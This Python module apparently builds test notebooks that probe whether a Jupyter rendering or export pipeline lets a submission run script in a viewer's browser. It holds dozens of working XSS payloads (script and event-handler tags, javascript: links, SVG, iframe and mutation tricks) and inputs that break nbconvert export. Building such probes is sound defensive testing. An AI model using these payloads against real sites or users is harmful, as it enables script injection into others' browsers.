"""Ways in which a submission acts in the browser of whoever looks at it.

``VECTORS[name](url)`` makes the cells of a notebook that asks for ``url`` when it is shown, pointed
at or clicked, or that stops nbconvert's export; ``METADATA`` are the same for a notebook's own
metadata. Each is a mechanism of its own.
"""

import base64

from nbformat.v4 import new_code_cell, new_markdown_cell, new_output

VECTORS = {}
PIXEL = (
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJg"
    "gg=="
)


def script(url):
    """JavaScript without spaces, quotes of one kind, that asks for the address."""
    return f"void((new/**/Image).src='{url}')"


def link(url):
    """The same as an address for Markdown, which allows neither brackets nor quotes."""
    return f"javascript:{script(url)}".translate(
        {ord("("): "%28", ord(")"): "%29", ord("'"): "%27"}
    )


def shown(data, metadata=None, count=1):
    """A code cell that displayed something."""
    output = new_output("display_data", data=data, metadata=metadata or {})
    return [new_code_cell("show()", outputs=[output], execution_count=count)]


def html(name, text):
    """Register an HTML output; ``{js}``, ``{url}`` and ``{inner}`` are filled in."""

    def make(url):
        inner = base64.b64encode(f"<script>{script(url)}</script>".encode()).decode()
        return shown({"text/html": text.format(js=script(url), url=url, inner=inner)})

    VECTORS[f"html: {name}"] = make


def markdown(name, text):
    """Register a Markdown cell; ``{link}`` is a JavaScript address besides those of `html`."""

    def make(url):
        return [new_markdown_cell(text.format(js=script(url), url=url, link=link(url)))]

    VECTORS[f"markdown: {name}"] = make


def other(name):
    """Register a builder."""

    def register(make):
        VECTORS[name] = make
        return make

    return register


html("script", "<script>{js}</script>")
html("script in capitals, odd end", "<ScRiPt >{js}</sCrIpT\n>")
html("script from elsewhere", '<script src="{url}"></script>')
html("event of an image", '<img src="x:" onerror="{js}">')
html("event without spaces", "<img/src=x:/onerror={js}>")
html("event of a video source", '<video><source onerror="{js}"></video>')
html("event of details", '<details open ontoggle="{js}"><summary>x</summary></details>')
html("event of pointing", '<p onmouseover="{js}">point at me</p>')
html("event of an animation", '<style>@keyframes x{{}}</style><b style="animation-name:x;animation-duration:1s" onanimationstart="{js}">x</b>')  # fmt: skip  # noqa: E501
html("event of focus", '<input autofocus onfocus="{js}">')
html("link to script", '<a href="javascript:{js}">click</a>')
html("link to script, written in entities", '<a href="&#106;ava&Tab;script&colon;{js}">click</a>')
html("form that sends to script", '<form action="javascript:{js}"><button>go</button></form>')
html(
    "button that overrides a form", '<form><button formaction="javascript:{js}">go</button></form>'
)
html("form that sends elsewhere", '<form action="{url}"><button>go</button></form>')
html("frame of a document", '<iframe srcdoc="<script>{js}</script>"></iframe>')
html("frame of data", '<iframe src="data:text/html;base64,{inner}"></iframe>')
html("frame of script", '<iframe src="javascript:{js}"></iframe>')
html("frame from elsewhere", '<iframe src="{url}"></iframe>')
html("object", '<object data="data:text/html;base64,{inner}"></object>')
html("embedded document", '<embed src="data:text/html;base64,{inner}">')
html("drawing with a load event", '<svg onload="{js}"></svg>')
html("drawing with a script", "<svg><script>{js}</script></svg>")
html("drawing with a foreign object", '<svg><foreignObject><img src="x:" onerror="{js}"/></foreignObject></svg>')  # fmt: skip  # noqa: E501
html("drawing that animates a link", '<svg><a><animate attributeName="href" values="javascript:{js}"/><text y="20">click</text></a></svg>')  # fmt: skip  # noqa: E501
html("formula language with a hidden image", '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror={js}&gt;">')  # fmt: skip  # noqa: E501
html("comment that ends early", '<!--><img src="x:" onerror="{js}">-->')
html("attribute that is never closed", '<img src="x:" title="a onerror={js} " onerror="{js}" ')
html("image from elsewhere", '<img src="{url}">')
html("image set from elsewhere", '<img srcset="{url} 1x">')
html("poster from elsewhere", '<video poster="{url}"></video>')
html("image button from elsewhere", '<input type="image" src="{url}">')
html("style sheet from elsewhere", '<link rel="stylesheet" href="{url}">')
html("style that imports", '<style>@import "{url}";</style>')
html("style with an address", '<style>body {{ background: url("{url}") }}</style>')
html("style of an element with an address", '<p style="background: url({url})">x</p>')
html("refresh to elsewhere", '<meta http-equiv="refresh" content="0;url={url}">')
html("base of all addresses", '<base href="{url}/"><img src="/picture.png">')

markdown("script", "Hello <script>{js}</script>")
markdown("event", 'Hello <img src="x:" onerror="{js}">')
markdown("tag that is never closed", '<p title="x" onmouseover="{js}" class="')
markdown("link", "[click]({link})")
markdown("link by reference", "[click][1]\n\n[1]: {link}")
markdown("link in angle brackets", "<{link}>")
markdown("fenced diagram", '```mermaid\n</pre><img src="x:" onerror="{js}">\n```')
markdown("image from elsewhere", "![x]({url})")
markdown("table", '| a |\n|---|\n| <img src="x:" onerror="{js}"> |')
markdown("heading", '# A <img src="x:" onerror="{js}">')


@other("output: JavaScript")
def javascript(url):
    return shown({"application/javascript": script(url)})


@other("output: Markdown")
def markdown_output(url):
    return shown({"text/markdown": f"<script>{script(url)}</script>"})


@other("output: HTML in a frame")
def isolated(url):
    return shown(
        {"text/html": f"<script>{script(url)}</script>"}, {"text/html": {"isolated": True}}
    )


@other("output: width of a picture")
def width(url):
    # Entities survive the template's escaping, which is meant for quoted values.
    return shown({"image/png": PIXEL}, {"image/png": {"width": f"1 onload={script(url)}"}})


@other("export stops: a prompt that is no number")
def prompt(url):
    cells = shown({"text/plain": "x"})
    cells[0].execution_count = f"<img src=x: onerror={script(url)}>"
    return cells


@other("export stops: colour without a number")
def colour(url):
    output = new_output("stream", text="\x1b[38mred")
    return [new_code_cell("x", outputs=[output], execution_count=1)]


@other("export stops: colour in a traceback")
def traceback(url):
    output = new_output("error", ename="E", evalue="", traceback=["\x1b[48mred"])
    return [new_code_cell("x", outputs=[output], execution_count=1)]


@other("export stops: attachment that is missing")
def missing(url):
    return [new_markdown_cell("![x](attachment:none.png)")]


@other("attachment that is a page")
def attachment(url):
    page = base64.b64encode(f"<script>{script(url)}</script>".encode()).decode()
    cell = new_markdown_cell('![x](attachment:x.png "x")')
    cell["attachments"] = {"x.png": {f'image/png" onerror="{script(url)}': page}}
    return [cell]


@other("output: widget")
def widget(url):
    view = {"version_major": 2, "version_minor": 0, "model_id": f"</script><script>{script(url)}"}
    return shown({"application/vnd.jupyter.widget-view+json": view})


@other("output: formula that links")
def formula(url):
    return shown({"text/latex": f"$\\href{{javascript:{script(url)}}}{{x}}$"})


@other("output: drawing with a script")
def drawing(url):
    source = f'<svg xmlns="http://www.w3.org/2000/svg"><script>{script(url)}</script></svg>'
    return shown({"image/svg+xml": source})


@other("output: a diagram of links")
def mermaid(url):
    return shown({"text/vnd.mermaid": f'graph TD; a; click a "javascript:{script(url)}"'})


@other("output: HTML as an object")
def vdom(url):
    return shown({"application/vdom.v1+json": {"tagName": "script", "children": [script(url)]}})


@other("tags of a cell")
def tags(url):
    cell = new_code_cell("x", execution_count=1)
    cell.metadata["tags"] = [f'"><img src=x: onerror={script(url)}>']
    return [cell]


@other("a PNG that is a page")
def not_a_picture(url):
    return shown({"image/png": f'"><img src=x: onerror={script(url)}>'})
